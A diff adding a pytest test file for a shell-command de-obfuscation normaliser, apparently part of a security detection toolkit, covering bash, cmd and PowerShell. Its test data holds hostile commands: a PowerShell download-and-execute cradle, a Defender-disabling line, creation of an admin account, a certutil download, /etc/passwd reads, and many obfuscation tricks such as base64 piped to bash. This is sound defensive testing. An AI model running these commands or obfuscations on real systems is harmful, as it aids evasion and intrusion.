@@ -1,0 +1,229 @@
+"""The shell-aware normaliser: hand-written examples of each technique family, every engine technique's outputs
+normalised back to the seed's normal form (a table of what is and is not inverted is printed with ``-s``), benign
+lines left alone, and bounded time on adversarial input."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import re
+import time
+
+import pytest
+
+from sectune.errors import SectuneError
+from sectune.tasks.cmdline.normalize import guess_shell, normalize, same
+from sectune.tasks.cmdline.obfuscate import INTENSITIES, obfuscate, techniques
+
+SEEDS = {
+    "bash": ["echo hello world", "cat /etc/passwd | grep root", "ls -la /tmp", "id", "uname -a"],
+    "cmd": [
+        "net user",
+        "whoami /all",
+        "net user admin P@ss1 /add",
+        "certutil -urlcache -split -f http://example.com/a.txt a.txt",
+        "ping -n 1 127.0.0.1",
+        "netstat -ano | findstr LISTENING",
+        "tasklist /v && ipconfig /all",
+    ],
+    "powershell": [
+        "Write-Host hello",
+        "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
+        "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/x.ps1')",
+        "Set-MpPreference -DisableRealtimeMonitoring $true",
+        "Get-ChildItem C:\\Users | Where-Object { $_.Name -like 'a*' }",
+    ],
+}
+# Techniques whose every output (on SEEDS, each intensity, two random seeds) normalises to the seed's normal form.
+INVERTED = {
+    *(
+        f"bash/{n}"
+        for n in "base64 gzip-base64 bzip2-base64 hex octal ansi-c-hex printf rot13 quotes backslash null-expansion "
+        "ifs brace glob variables rev case base32 slice".split()
+    ),
+    *(
+        f"cmd/{n}"
+        for n in "caret quotes arg-insertion random-case separators env-substring set-concat delayed for-loop "
+        "reverse substitution char-insertion".split()
+    ),
+    *(
+        f"powershell/{n}"
+        for n in "encoded-command deflate char-codes concat format join reverse replace backtick random-case "
+        "aliases bxor".split()
+    ),
+}
+
+
+def _enc(text: str) -> str:
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize(
+    ("line", "shell", "normal", "step"),
+    [
+        # cmd
+        ("n^e^t us^er", "cmd", "net user", "caret inside n^e^t removed -> net"),
+        ('n"e"t user', "cmd", "net user", "quotes inside a word removed"),
+        (",;net user", "cmd", "net user", "leading , ; delimiters removed"),
+        ("%COMSPEC:~-7,1%md /c whoami", "cmd", "whoami", "%COMSPEC:~-7,1% expanded"),
+        ('cmd /c "set a=ne&& set b=t&& call %a%%b% user"', "cmd", "net user", "call re-expanded"),
+        ('cmd /v:on /c "set x=net&&!x! user"', "cmd", "net user", "delayed !x! expanded"),
+        (
+            'cmd /V:ON /C"set r=resu ten&&for /L %i in (7,-1,0) do set o=!o!!r:~%i,1!&&if %i==0 call %o%"',
+            "cmd",
+            "net user",
+            "for loop unrolled",
+        ),
+        ("NeT UsEr", "cmd", "net UsEr", ""),
+        ("whoami \u2013all", "cmd", "whoami -all", "Unicode dash -> -"),
+        # PowerShell
+        ("Ne`w-Ob`ject Net.WebClient", "powershell", "new-object net.webclient", "backticks removed"),
+        ("gci -Force", "powershell", "get-childitem -force", "alias gci -> get-childitem"),
+        ("powershell -e " + _enc("whoami"), "powershell", "whoami", "-e payload decoded (UTF-16LE base64)"),
+        ("powershell -EncodedCommand " + _enc("whoami"), "powershell", "whoami", "-EncodedCommand payload decoded"),
+        ("pwsh /enc " + _enc("Get-Process"), "powershell", "get-process", "/enc payload decoded"),
+        ("&('Wr'+'ite-Host') hi", "powershell", "write-host hi", "string expression folded"),
+        ("&(\"{1}{0}\" -f 'ost','Write-H') hi", "powershell", "write-host hi", "string expression folded"),
+        ("&([char]73+[char]69+'X') 'whoami'", "powershell", "whoami", "string expression folded"),
+        ("iex (-join('imaohw'[-1..-6]))", "powershell", "whoami", "string expression folded"),
+        ("iex ('wh#oa#mi' -replace '#','')", "powershell", "whoami", "string expression folded"),
+        # bash
+        ("c''at /e\\tc/pa\"ss\"wd", "bash", "cat /etc/passwd", "quotes inside a word removed"),
+        ("$'\\x63\\x61\\x74' /etc/passwd", "bash", "cat /etc/passwd", "$'..' ANSI-C escapes decoded"),
+        ("$(printf '\\143at') /etc/passwd", "bash", "cat /etc/passwd", "command substitution computed"),
+        ("cat${IFS}/etc/passwd", "bash", "cat /etc/passwd", "${IFS} -> space"),
+        ("c$@at /etc/pa${*,,}sswd", "bash", "cat /etc/passwd", "null expansion $@/$* removed"),
+        ("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash", "bash", "cat /etc/passwd", "base64 payload decoded"),
+        ("echo 636174202f6574632f706173737764|xxd -r -p|sh", "bash", "cat /etc/passwd", "hex payload decoded"),
+        ("$(rev<<<tac) /etc/passwd", "bash", "cat /etc/passwd", "reversed text restored"),
+        ("a=ca;b=t;$a$b /etc/passwd", "bash", "cat /etc/passwd", "variable substituted"),
+        ("{cat,/etc/passwd}", "bash", "cat /etc/passwd", "brace word split"),
+        ("/?in/c?t /etc/passwd", "bash", "cat /etc/passwd", "glob /?in/c?t -> /bin/cat"),
+        ("eval \"$(tr a-z n-za-m<<<'png /rgp/cnffjq')\"", "bash", "cat /etc/passwd", "tr translation applied (rot13)"),
+    ],
+)
+def test_hand_written_examples(line, shell, normal, step):
+    n = normalize(line, shell)
+    assert n.normal == normal, n
+    assert not step or any(s.startswith(step) for s in n.steps), n.steps
+    assert normalize(line).normal == normal or guess_shell(line) != shell
+
+
+def test_decoded_payloads_and_layers_are_reported():
+    inner = "echo " + base64.b64encode(b"cat /etc/passwd").decode() + " | base64 -d | bash"
+    outer = "echo " + base64.b64encode(inner.encode()).decode() + " | base64 -d | bash"
+    n = normalize(outer)
+    assert n.normal == "cat /etc/passwd" and n.payloads[-1].strip() == "cat /etc/passwd" and n.layers >= 2
+    n = normalize("cmd /c powershell -enc " + _enc("Get-Process"))
+    assert n.normal == "get-process" and n.payloads == ["Get-Process"]
+
+
+def test_shell_is_guessed_from_the_line():
+    assert guess_shell("powershell -nop -enc AAAA") == "powershell"
+    assert guess_shell("IEX (New-Object Net.WebClient)") == "powershell"
+    assert guess_shell("cmd /c whoami") == "cmd" and guess_shell("n^e^t user") == "cmd"
+    assert guess_shell("cat /etc/passwd | grep root") == "bash"
+    with pytest.raises(SectuneError, match="unknown shell"):
+        normalize("x", "fish")
+
+
+def _outputs(name: str, shell: str):
+    for seed in SEEDS[shell]:
+        for intensity in INTENSITIES:
+            for r in (1, 2):
+                try:
+                    yield seed, obfuscate(seed, shell, [name], intensity, rng=r).text
+                except SectuneError:
+                    pass
+
+
+def test_every_engine_technique_is_inverted_or_reported(capsys):
+    """Each registered technique: the share of outputs normalised to the seed's normal form, and the share where
+    at least the seed's command name shows in the normal form. Techniques in INVERTED must invert every output;
+    the others (new ones included) are reported, never a failure."""
+    report, failures = [], []
+    for technique in techniques():
+        cases = list(_outputs(technique.name, technique.shell))
+        if not cases:
+            continue
+        inverted = exposed = 0
+        for seed, text in cases:
+            n, want = normalize(text, technique.shell), normalize(seed, technique.shell)
+            inverted += same(n.normal, want.normal)
+            exposed += want.normal.split()[0].lower() in n.normal.lower()
+            if technique.name in INVERTED and not same(n.normal, want.normal):
+                failures.append(f"{technique.name}: {text!r} -> {n.normal!r}, want {want.normal!r}")
+        report.append(
+            f"{technique.name:28s} inverted {inverted / len(cases):4.0%}  command exposed {exposed / len(cases):4.0%}"
+        )
+    with capsys.disabled():
+        print("\n" + "\n".join(report))
+    assert not failures, "\n".join(failures[:10])
+
+
+@pytest.mark.parametrize(
+    ("line", "shell"),
+    [
+        ("net user", "cmd"),
+        ("ipconfig /all", "cmd"),
+        ("dir C:\\Windows\\System32", "cmd"),
+        ("netstat -ano | findstr LISTENING", "cmd"),
+        ("Get-ChildItem -Path C:\\Users -Recurse | Select-Object Name", "powershell"),
+        ("Write-Output 'Hello World'", "powershell"),
+        ("ls -la /tmp", "bash"),
+        ("grep -rn TODO src | sort | uniq -c", "bash"),
+        ("tar -czf backup.tar.gz /var/www", "bash"),
+    ],
+)
+def test_benign_lines_normalise_to_themselves(line, shell):
+    n = normalize(line, shell)
+    assert same(n.normal, line), n
+    assert normalize(line).shell == shell
+
+
+def _cosmetic(text: str) -> str:
+    return re.sub(r"""[\s"'&;]|\.exe\b""", "", text.lower())
+
+
+def test_benign_template_lines_mostly_stay_themselves(capsys):
+    """Generated benign lines change only cosmetically (quotes the shell strips, case, separators) in most cases;
+    the rest are legitimate rewrites (aliases, ``cmd /c`` unwrapped, variables assigned on the line)."""
+    from sectune.tasks.cmdline.dataset import build_cmdline_dataset
+
+    records = [r for r in build_cmdline_dataset(n=600, seed=3, progress=False).records if r["label"] == 0]
+    kept = sum(_cosmetic(normalize(r["text"], r["shell"]).normal) == _cosmetic(r["text"]) for r in records)
+    with capsys.disabled():
+        print(f"\nbenign template lines unchanged but for cosmetics: {kept}/{len(records)}")
+    assert kept >= 0.8 * len(records)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'cmd /c "' * 300 + "whoami",
+        "call " * 5000 + "whoami",
+        'cmd /v:on /c "for /l %i in (1,1,999999999) do echo %i"',
+        "echo " + "QUFB" * 30000 + " | base64 -d | bash",
+        "iex " + "(" * 3000 + "'a'" + ")" * 3000,
+        "iex (-join('a'[1..99999999]))",
+        "iex (" + "+".join(["'a'"] * 5000) + ")",
+        "$(" * 2000 + "echo hi" + ")" * 2000,
+        "a^" * 50000,
+        "powershell -enc " + "QQBBAA" * 20000,
+        "echo " + base64.b64encode(gzip.compress(b"A" * 20_000_000)).decode() + " | base64 -d | gunzip | bash",
+        "x" * 200_000,
+    ],
+)
+def test_bounded_time_on_adversarial_input(line):
+    start = time.perf_counter()
+    n = normalize(line)
+    assert time.perf_counter() - start < 2.0  # generous for a shared machine; typically well under 0.3 s
+    assert isinstance(n.normal, str) and len(n.normal) <= 200_000
+
+
+def test_nested_encodings_stop_at_the_depth_bound():
+    line = "whoami"
+    for _ in range(12):
+        line = "echo " + base64.b64encode(line.encode()).decode() + " | base64 -d | bash"
+    n = normalize(line)
+    assert n.truncated in ("depth", "size", "steps") or n.normal == "whoami"
